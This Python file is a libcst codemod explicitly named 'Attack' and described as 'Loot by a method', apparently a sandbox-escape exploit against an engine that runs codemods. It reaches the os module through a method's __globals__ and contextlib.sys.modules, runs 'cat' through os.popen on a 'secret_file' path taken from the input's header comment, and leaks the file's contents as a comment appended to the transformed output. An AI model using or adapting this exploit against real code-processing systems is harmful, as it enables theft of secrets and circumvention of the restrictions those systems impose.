"""Look at its own methods: the engine has put one of its own among them, with the engine's globals."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path, method):
    os = method.__globals__["contextlib"].sys.modules["os"]
    return os.popen(f"cat {path}").read().strip() or os.read(os.open(path, 0), 4096).decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a method."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"], self.transform_module_impl)
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
